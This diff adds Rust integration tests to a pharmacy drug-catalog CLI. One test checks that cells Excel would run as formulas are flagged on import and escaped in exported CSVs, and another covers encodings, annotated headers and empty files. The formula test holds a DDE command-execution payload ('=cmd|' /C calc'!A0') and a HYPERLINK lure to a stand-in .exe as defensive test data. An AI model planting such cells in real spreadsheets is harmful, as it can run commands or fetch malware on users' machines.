@@ -318,3 +318,240 @@ fn a_3000_row_catalog_in_every_encoding_bad_files_and_the_pharmacy_role() {
         "{html}"
     );
 }
+
+/// Runs a command that must succeed; returns stdout and stderr.
+fn ok_with_notes(dir: &Path, args: &[&str]) -> (String, String) {
+    let out = run(dir, args);
+    let stderr = String::from_utf8_lossy(&out.stderr).to_string();
+    assert!(out.status.success(), "yilian {args:?}: {stderr}");
+    (String::from_utf8(out.stdout).unwrap(), stderr)
+}
+
+/// No cell of CSV text starts like a formula (quoted cells included).
+fn no_formula_cell(csv: &str) -> bool {
+    csv.split("\r\n").all(|line| {
+        line.split(',')
+            .all(|cell| !cell.trim_start_matches('"').starts_with(['=', '+', '@']))
+    })
+}
+
+const CODE: &str = "XA01ABD075A002010100483";
+
+/// Issue 13 item 6: cells Excel would run as formulas — a catalog cell such as
+/// `=HYPERLINK(...)` or a DDE call, a facility field of a document from a broken or hostile
+/// peer — are warned about on import and written as text in every CSV yilian writes; an
+/// exported file imports back unchanged.
+#[test]
+fn formula_cells_warn_on_import_and_are_text_in_every_csv_written() {
+    let tmp = tempdir();
+    let files = tmp.path();
+    let alliance = Alliance::new(tmp.path(), "Catalog F");
+    let ch = alliance.node("CH-01", "county-hospital", "pharmacy");
+    let link = "=HYPERLINK(\"http://x.cn/a.exe\",\"点击查看说明书\")";
+    let dde = "=cmd|' /C calc'!A0";
+    let text = format!(
+        "{}{CODE},\"{}\",胶囊,0.25g,24/盒,{dde},甲,是,否,在用\r\n",
+        sample_csv(6),
+        link.replace('"', "\"\"")
+    );
+    let evil = write(files, "evil.csv", text.as_bytes());
+    let (_, err) = ok_with_notes(&ch, &["catalog", "import", &evil]);
+    assert!(
+        err.contains(&format!(
+            "{evil}:8: warning: column \"通用名\" (generic_name) starts with '='"
+        )),
+        "{err}"
+    );
+    assert!(
+        err.contains(&format!(
+            "{evil}:8: warning: column \"生产企业\" (manufacturer) starts with '='"
+        )),
+        "{err}"
+    );
+    let r = json(&ch, &["catalog", "import", &evil, "--dry-run", "--json"]);
+    assert_eq!(r["formula_cells"].as_array().unwrap().len(), 2, "{r}");
+    let shown = json(&ch, &["catalog", "show", CODE, "--json"]);
+    assert_eq!(shown["entry"]["generic_name"], link);
+
+    // The export writes them as text; importing it changes nothing and warns of nothing.
+    let out = files.join("export.csv");
+    ok(&ch, &["catalog", "export", "--out", out.to_str().unwrap()]);
+    let exported = std::fs::read(&out).unwrap();
+    let exported = std::str::from_utf8(&exported[3..]).unwrap();
+    assert!(exported.contains(",'=cmd|' /C calc'!A0,"), "{exported}");
+    assert!(
+        exported.contains(&format!(",\"'{}\",", link.replace('"', "\"\""))),
+        "{exported}"
+    );
+    assert!(no_formula_cell(exported), "{exported}");
+    let (_, err) = ok_with_notes(&ch, &["catalog", "import", out.to_str().unwrap()]);
+    assert!(!err.contains("warning"), "{err}");
+    let r = import(&ch, out.to_str().unwrap());
+    assert_eq!(
+        (r["unchanged"].as_u64(), r["applied"].as_bool()),
+        (Some(7), Some(false))
+    );
+    assert_eq!(
+        json(&ch, &["catalog", "show", CODE, "--json"])["entry"],
+        shown["entry"]
+    );
+
+    // A dispensing summary whose facility field is a formula, as a broken or hostile peer
+    // could send one (here imported as a document): the report CSVs carry it as text.
+    let mut doc = automerge::Automerge::new();
+    let row = yilian_node::documents::dispensing::DispensedRow {
+        quantity: 3,
+        amount_fen: 300,
+        updated_ms: 1,
+    };
+    yilian_node::documents::dispensing::write(
+        &mut doc,
+        dde,
+        yilian_node::documents::dispensing::Level::Primary,
+        "2026-06",
+        &[(CODE.to_string(), row)],
+    )
+    .unwrap();
+    let summary = write(files, "summary.automerge", &doc.save());
+    ok(&ch, &["doc", "import", &summary, "--kind", "dispensing"]);
+    let period = ["--from", "2026-06-01", "--to", "2026-06-30"];
+    let csv = ok(
+        &ch,
+        &[
+            &["report", "essential-drugs", "--format", "csv"][..],
+            &period[..],
+        ]
+        .concat(),
+    );
+    assert!(
+        csv.contains("'=cmd|' /C calc'!A0,primary,1,3.00,3.00,100.0"),
+        "{csv}"
+    );
+    assert!(no_formula_cell(&csv), "{csv}");
+    let h1 = files.join("h1");
+    ok(
+        &ch,
+        &[
+            "report",
+            "semiannual",
+            "--year",
+            "2026",
+            "--half",
+            "1",
+            "--out",
+            h1.to_str().unwrap(),
+        ],
+    );
+    let csv = std::fs::read_to_string(h1.join("essential-drugs.csv")).unwrap();
+    assert!(csv.contains("'=cmd|' /C calc'!A0,primary"), "{csv}");
+    assert!(no_formula_cell(&csv), "{csv}");
+}
+
+/// Issue 13 item 7: what pharmacists ran into — look-alike rows in `catalog list`, a 一品两规
+/// warning on every import, a renamed workbook, UTF-16 big-endian, annotated headers, a file
+/// with no rows.
+#[test]
+fn the_files_pharmacists_have_and_what_they_see() {
+    let tmp = tempdir();
+    let files = tmp.path();
+    let alliance = Alliance::new(tmp.path(), "Catalog P");
+    let ch = alliance.node("CH-01", "county-hospital", "pharmacy");
+    let text = sample_csv(10);
+    let header = text.lines().next().unwrap();
+    // A third oral specification of 阿莫西林 (the first generic name) breaks 一品两规.
+    let mut third: Vec<String> = text
+        .lines()
+        .nth(1)
+        .unwrap()
+        .split(',')
+        .map(String::from)
+        .collect();
+    third[0] = "XA00ABA000A001000910000".into();
+    third[3] = "1g".into();
+    let all = write(
+        files,
+        "all.csv",
+        format!("{text}{}\r\n", third.join(",")).as_bytes(),
+    );
+    let (out, _) = ok_with_notes(&ch, &["catalog", "import", &all]);
+    assert!(
+        out.contains("warning: 阿莫西林: 3 oral specifications"),
+        "{out}"
+    );
+
+    // Eighteen 阿莫西林 rows must not look alike: the table shows package and manufacturer.
+    let list = ok(&ch, &["catalog", "list", "--search", "阿莫西林"]);
+    for want in [
+        "package",
+        "manufacturer",
+        "24/盒",
+        "12/盒",
+        "华北制药股份有限公司",
+    ] {
+        assert!(list.contains(want), "{want} missing:\n{list}");
+    }
+
+    // A file about another drug says nothing of 阿莫西林.
+    let other = text.lines().nth(3).unwrap().replace("12/盒", "48/盒");
+    let other = write(
+        files,
+        "other.csv",
+        format!("{header}\r\n{other}\r\n").as_bytes(),
+    );
+    let (out, err) = ok_with_notes(&ch, &["catalog", "import", &other]);
+    assert!(
+        !out.contains("一品两规") && !err.contains("一品两规"),
+        "{out}{err}"
+    );
+    assert!(out.contains("imported"), "{out}");
+
+    // A workbook renamed to .csv (a ZIP holding xl/workbook.xml, as every .xlsx does).
+    let mut xlsx = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00".to_vec();
+    xlsx.extend_from_slice(&[0; 14]);
+    xlsx.extend_from_slice(b"\x0f\x00\x00\x00xl/workbook.xml");
+    let xlsx = write(files, "目录.csv", &xlsx);
+    let (code, err) = fails(&ch, &["catalog", "import", &xlsx]);
+    assert_eq!(code, 4, "{err}");
+    assert!(
+        err.contains("this is an Excel workbook (.xlsx), not a CSV file")
+            && err.contains("save it as CSV"),
+        "{err}"
+    );
+    assert!(!err.contains("GBK"), "{err}");
+
+    // UTF-16 big-endian with a byte-order mark, tab-separated like Excel's "Unicode text".
+    let be = encode(&text.replace(',', "\t"), TextEncoding::Utf16Be).unwrap();
+    let be = write(files, "be.txt", &be);
+    let r = json(&ch, &["catalog", "import", &be, "--dry-run", "--json"]);
+    assert_eq!(r["encoding"], "utf-16be");
+    assert_eq!(r["rejected"].as_array().unwrap().len(), 0, "{r}");
+    assert_eq!(r["rows"], 10);
+
+    // Headers with bracketed annotations, full- and half-width.
+    let annotated = text.replacen(
+        header,
+        "【医保药品代码】,通用名,剂型,规格（单位）,[包装],生产企业,医保类别(甲/乙),基本药物（是/否）,长处方,状态",
+        1,
+    );
+    let annotated = write(files, "annotated.csv", annotated.as_bytes());
+    let r = json(
+        &ch,
+        &["catalog", "import", &annotated, "--dry-run", "--json"],
+    );
+    assert_eq!(r["rejected"].as_array().unwrap().len(), 0, "{r}");
+    assert_eq!(r["rows"], 10, "{r}");
+
+    // A header and no rows is the wrong file: refused, for the catalog and for dispensing.
+    let empty = write(files, "empty.csv", format!("{header}\r\n").as_bytes());
+    let (code, err) = fails(&ch, &["catalog", "import", &empty]);
+    assert_eq!(code, 4, "{err}");
+    assert!(err.contains("no data rows"), "{err}");
+    let empty = write(
+        files,
+        "empty-disp.csv",
+        "统计期间,医保药品代码,数量,金额(元)\r\n".as_bytes(),
+    );
+    let (code, err) = fails(&ch, &["dispensing", "import", &empty]);
+    assert_eq!(code, 4, "{err}");
+    assert!(err.contains("no data rows"), "{err}");
+}
